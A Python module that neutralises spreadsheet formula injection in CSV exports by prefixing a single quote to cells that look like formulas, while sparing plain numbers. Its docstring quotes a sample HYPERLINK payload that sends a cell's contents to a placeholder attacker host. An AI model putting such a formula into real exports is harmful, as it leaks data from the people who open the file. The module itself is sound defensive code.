"""CSV cells that a spreadsheet would run as a formula, neutralised as OWASP recommends.

A citizen's answer ``=HYPERLINK("http://evil.example/?x="&A2,"Click me")`` written verbatim to
a CSV file becomes a live formula when a member of staff opens the file in Excel or LibreOffice.
A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is therefore
written with a single quote in front (``'=HYPERLINK(...)``), which spreadsheets show as text.
Plain numbers (``-12``, ``+3.5``, ``-1e3``) are left alone: no spreadsheet reads them as a formula,
and they must stay numbers. Exports for analysts who read the file with code take ``--raw``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def neutralised(value: Any) -> Any:
    """``value``, with a ``'`` in front if it is text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value and value[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralised_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of ``row`` :func:`neutralised`."""
    return [neutralised(value) for value in row]
